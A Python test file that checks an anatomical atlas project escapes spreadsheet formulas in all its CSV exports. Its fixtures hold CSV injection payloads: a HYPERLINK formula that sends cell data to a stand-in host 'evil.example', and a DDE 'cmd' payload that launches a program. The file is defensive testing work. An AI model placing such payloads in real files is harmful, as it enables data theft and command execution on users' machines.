"""No CSV file of ours holds a formula, whatever names and notices say."""

from __future__ import annotations

import ast
import csv
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import specimens

from analysis.products import write_tables
from atlas.build import build_atlas
from atlas.compare import Comparison, comparison_csv
from atlas.exchange.exports import export_atlas
from atlas.mesh.formats.centrelines import write_centrelines_csv
from atlas.sampling.records import Record
from atlas.sampling.summary import _table, samples_csv
from atlas.store import Settings
from atlas.text.plain_text import csv_cell

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"generated")'
IDS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")


@pytest.fixture(scope="module")
def dataset():
    made = specimens.make_dataset(4)
    subjects = tuple(
        replace(s, id=name, source=replace(s.source, notice=FORMULA))
        for s, name in zip(made.subjects, IDS, strict=True)
    )
    return replace(made, subjects=subjects)


@pytest.fixture(scope="module")
def atlas(dataset):
    return build_atlas(dataset, Settings(root=8, dura=(12, 12), cord=(10, 8)))


def formulas(text):
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert cells
    return [cell for cell in cells if cell != csv_cell(cell) and not cell.startswith("'")]


def write_all(atlas, dataset, out):
    write_tables(atlas, dataset, out / "tables")
    export_atlas(atlas, "csv", out / "csv")
    export_atlas(atlas, "slicermorph", out / "slicermorph")
    mean = atlas.model.scheme.anatomy(atlas.model.mean)
    write_centrelines_csv(mean, out / "centrelines.csv", notice=FORMULA)
    return sorted(out.rglob("*.csv"))


@pytest.mark.slow
def test_tables_exports_and_centrelines_hold_none(atlas, dataset, tmp_path):
    files = write_all(atlas, dataset, tmp_path)
    assert len(files) > 18
    for path in files:
        assert formulas(path.read_text("utf-8")) == [], path.name
    said = "".join(path.read_text("utf-8") for path in files)
    assert "'=HYPERLINK" in said
    assert "'@SUM(A1)" in said


def test_tables_of_samples_and_comparisons_hold_none():
    record = Record(
        *(0, True, 1, {}, ("-rule",), 0.0, (0.5, -1.0), (0.0,) * 3, (0.0,) * 3),
        {"@measure": -1.0},
    )
    text = samples_csv([record], n=1, seed=0, notice=FORMULA)
    assert formulas(text) == []
    assert "'@measure" in text
    assert ",-1," in text
    assert formulas(_table([{"rule": "=1", "n": -1.5}], FORMULA)) == []
    four = np.array([1.0, 2.0, 3.0, 4.0])
    text = comparison_csv([Comparison("=1+1", "dura", 3, four, four, 1.0, np.nan)])
    assert formulas(text) == []
    assert "'=1+1,dura" in text


@pytest.mark.slow
def test_nobody_writes_csv_beside_the_one_way():
    beside = []
    for path in sorted([*(ROOT / "atlas").rglob("*.py"), *(ROOT / "analysis").rglob("*.py")]):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name.endswith((".to_csv", "csv.writer", "csv.DictWriter", "np.savetxt")):
                beside.append(path.name)
    # The cells of these two have been through csv_cell.
    assert sorted(beside) == ["plain_text.py", "tidy.py"]
